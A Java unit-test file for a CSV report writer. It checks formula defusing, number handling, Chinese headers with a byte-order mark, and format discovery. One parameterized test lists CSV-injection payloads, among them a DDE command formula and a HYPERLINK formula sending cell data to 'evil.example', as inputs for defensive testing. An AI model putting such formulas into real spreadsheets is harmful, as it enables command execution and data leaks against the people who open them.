package dev.cordon.adapters.csv;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cordon.Cordon;
import dev.cordon.core.report.Column;
import dev.cordon.core.report.Report;
import dev.cordon.core.report.ReportTable;
import dev.cordon.core.report.Text;
import dev.cordon.spi.report.ReportOptions;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvReportWriterTest {
  private static final Column UNIT = Column.text("unit", "Unit", "单位");
  private static final Column FEVERS = Column.number("fevers", "Fevers", "发热人数");

  private static Report report(ReportTable... tables) {
    return new Report() {
      @Override
      public String kind() {
        return "daily";
      }

      @Override
      public Text title() {
        return Text.of("Daily report", "日报");
      }

      @Override
      public List<ReportTable> tables() {
        return List.of(tables);
      }
    };
  }

  private static ReportTable table(String name, List<Object> row) {
    return new ReportTable(name, Text.of(name, name), List.of(UNIT, FEVERS), List.of(row));
  }

  private static String write(Report r, ReportOptions o) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    new CsvReportWriter().write(r, out, o);
    return out.toString(StandardCharsets.UTF_8);
  }

  /** The payloads of OWASP's CSV-injection page and the usual variants. */
  @ParameterizedTest
  @ValueSource(strings = {"=1+2", "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(1+1)",
      "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "\t=1+2", "\r=1+2", "\n=1+2",
      "-1.5", "=-1.5"})
  void formulasInTextCellsAreDefused(String payload) throws IOException {
    String csv = write(report(table("units", Arrays.asList(payload, 1))), ReportOptions.defaults());
    String cell = csv.lines().skip(1).findFirst().orElseThrow();
    assertThat(cell).startsWith("\"'");
  }

  @Test
  void numbersAreLeftAlone() throws IOException {
    String csv = write(report(table("units", Arrays.asList("东河供热分公司", new BigDecimal("-1.5")))),
        ReportOptions.defaults());
    assertThat(csv).isEqualTo("unit,fevers\r\n东河供热分公司,-1.5\r\n");
    assertThat(write(report(table("units", Arrays.asList("a", "-3"))), ReportOptions.defaults()))
        .endsWith("a,-3\r\n");
  }

  @Test
  void severalTablesAreSectionsChineseHeadersAndBom() throws IOException {
    String csv = write(report(table("units", Arrays.asList("包头", 2)),
        table("sites", Arrays.asList(null, LocalDate.of(2021, 10, 25)))),
        ReportOptions.defaults().withLocale(Locale.SIMPLIFIED_CHINESE).withByteOrderMark(true));
    // FastCSV quotes a one-cell line starting with '#', which spreadsheets show the same
    assertThat(csv).isEqualTo("\uFEFF\"# table: units\"\r\n单位,发热人数\r\n包头,2\r\n\r\n"
        + "\"# table: sites\"\r\n单位,发热人数\r\n,2021-10-25\r\n");
  }

  @Test
  void discoveredByFormat() {
    try (Cordon cordon = Cordon.open("memory:")) {
      assertThat(cordon.reportWriter("csv")).isInstanceOf(CsvReportWriter.class);
      assertThat(cordon.reportFormats()).contains("csv", "json");
    }
  }
}
